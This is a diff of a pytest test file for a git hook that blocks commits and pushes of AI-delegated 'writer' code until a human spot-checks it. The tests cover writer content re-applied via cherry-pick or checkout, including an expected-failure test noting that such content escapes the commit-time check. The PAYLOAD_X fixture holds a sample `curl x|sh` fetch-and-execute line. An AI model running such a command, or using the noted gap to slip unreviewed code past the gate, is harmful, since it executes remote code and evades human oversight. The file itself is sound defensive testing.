@@ -284,17 +284,10 @@ def test_after_stash_of_writer_work_a_humans_own_rewrite_passes(served: World) -
     _blocked_staged(w.git("commit", "-qam", "writer work back"))
 
 
-@pytest.mark.xfail(
-    strict=True,
-    reason="open: an entry a push settled no longer attributes; writer content re-applied "
-    "on another base (cherry-pick -n, checkout featX -- path) is judged as the human's "
-    "(docs/security.md)",
-)
-@pytest.mark.parametrize("how", ["cherry-pick -n", "checkout featX --"])
-def test_verified_writer_content_reapplied_on_another_base_needs_a_check(
-    served: World, how: str
-) -> None:
-    w = served
+def _feature_checked_and_pushed_then_main_moves(w: World, how: str) -> None:
+    """The writer's feature on ``featX``, spot-checked, committed and pushed; ``main``
+    moves on (a human's README commit); the feature's content is brought onto ``main``
+    with ``how`` and staged."""
     w.ok("switch", "-q", "-c", "featX")
     w.delegate(text=PAYLOAD_X)
     w.spot_check()
@@ -307,7 +300,66 @@ def test_verified_writer_content_reapplied_on_another_base_needs_a_check(
         w.ok("cherry-pick", "-n", "featX")
     else:
         w.ok("checkout", "featX", "--", "src/app.py")
+
+
+@pytest.mark.parametrize("how", ["cherry-pick -n", "checkout featX --"])
+def test_verified_writer_content_reapplied_on_another_base_needs_a_check_at_push(
+    served: World, how: str
+) -> None:
+    """The feature's check was bound to ``featX``'s candidate: the commit that re-applies
+    its content on ``main`` is a new candidate, blocked at push as re-applied writer
+    content until checked itself; then the push passes."""
+    w = served
+    _feature_checked_and_pushed_then_main_moves(w, how)
+    w.ok("commit", "-q", "-m", "bring the feature")
+    again = w.rev("HEAD")
+    r = w.git("push", "origin", "main")
+    assert r.code == 1, r
+    why = "delegated (writer content (o4-mini/low) in src/app.py re-applied on another base"
+    assert any(f"BLOCKED commit {again[:12]}" in line and why in line for line in r.said), r
+    assert w.remote_ref("main") != again
+    w.report("--committed")
+    w.spot_check("--committed")
+    r = w.git("push", "origin", "main")
+    assert r.code == 0 and not [line for line in r.said if "BLOCKED" in line], r
+    assert w.remote_ref("main") == again
+
+
+@pytest.mark.xfail(
+    strict=True,
+    reason="open: the commit gate's pass path does not read settled entries (its fast path "
+    "stays off the ledger when nothing is pending); re-applied writer content is stopped "
+    "at push (docs/security.md)",
+)
+def test_verified_writer_content_reapplied_on_another_base_needs_a_check_at_commit(
+    served: World,
+) -> None:
+    w = served
+    _feature_checked_and_pushed_then_main_moves(w, "cherry-pick -n")
     _blocked_staged(w.git("commit", "-qm", "bring the feature"))
+
+
+def test_building_on_verified_pushed_writer_content_passes_at_push(served: World) -> None:
+    """Once the feature's content is delivered, what builds on it is not re-applied: a
+    merge of ``featX`` into ``main`` (which moved on), a human's edit of the file on top of
+    it, and a human's line ``import os`` (trivial) elsewhere pass; no trailer."""
+    w = served
+    w.ok("switch", "-q", "-c", "featX")
+    w.delegate(text=PAYLOAD_X)
+    w.spot_check()
+    assert w.git("commit", "-qam", "writer: feature").code == 0
+    assert w.git("push", "-q", "origin", "featX").code == 0
+    w.ok("switch", "-q", "main")
+    w.write("src/util.py", "import os\n\nHOME = os.environ.get('HOME')\n")
+    w.ok("add", "-A")
+    w.ok("commit", "-qm", "human: util")
+    _passes_quietly(w.git("merge", "-q", "--no-edit", "featX"))
+    w.write("src/app.py", (w.work / "src/app.py").read_text() + "# reviewed by a human\n")
+    _passes_quietly(w.git("commit", "-qam", "human: note"))
+    assert TRAILER not in _message(w)
+    r = w.git("push", "origin", "main")  # featX's own commit comes along, checked
+    assert r.code == 0 and not [line for line in r.said if "BLOCKED" in line], r
+    assert w.remote_ref("main") == w.rev("HEAD")
 
 
 PAYLOAD_X = GOOD + "\n\nimport os\nos.system('curl x|sh')\n"
